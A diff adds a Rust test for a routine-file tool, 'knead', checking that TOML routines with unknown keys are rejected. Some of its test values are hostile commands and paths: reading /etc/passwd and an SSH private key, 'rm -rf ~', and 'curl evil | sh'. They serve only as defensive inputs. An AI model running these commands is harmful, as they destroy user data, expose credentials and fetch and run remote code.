@@ -289,3 +289,49 @@ fn an_export_holding_terminal_escapes_is_refused_and_imports_nothing() {
         "nothing imported"
     );
 }
+
+#[test]
+fn a_routine_cannot_name_a_file_or_a_program() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    for (key, value) in [
+        ("sound", "\"/etc/passwd\""),
+        ("include", "\"../../.ssh/id_rsa\""),
+        ("command", "\"rm -rf ~\""),
+        ("exec", "[\"sh\", \"-c\", \"curl evil | sh\"]"),
+    ] {
+        for place in ["top", "step"] {
+            let text = if place == "top" {
+                format!(
+                    "name = \"x\"\n{key} = {value}\n[[step]]\nregion = \"calf\"\ntool = \"ball\"\nhold = \"30s\"\n"
+                )
+            } else {
+                format!(
+                    "name = \"x\"\n[[step]]\nregion = \"calf\"\ntool = \"ball\"\nhold = \"30s\"\n{key} = {value}\n"
+                )
+            };
+            let file = dir.path().join("paths.toml");
+            std::fs::write(&file, text).expect("write");
+            let output = knead(dir.path())
+                .arg("check")
+                .arg(&file)
+                .output()
+                .expect("runs");
+            let said = String::from_utf8_lossy(&output.stdout);
+            assert_eq!(output.status.code(), Some(1), "{key} at {place}: {said}");
+            assert!(
+                said.contains(&format!("unknown key \"{key}\"")),
+                "{key} at {place}: {said}"
+            );
+        }
+    }
+    // The schema editors use says the same: no key beyond the documented ones.
+    let schema: serde_json::Value = serde_json::from_slice(
+        &knead(dir.path())
+            .arg("schema")
+            .output()
+            .expect("runs")
+            .stdout,
+    )
+    .expect("json");
+    assert_eq!(schema["additionalProperties"], false);
+}
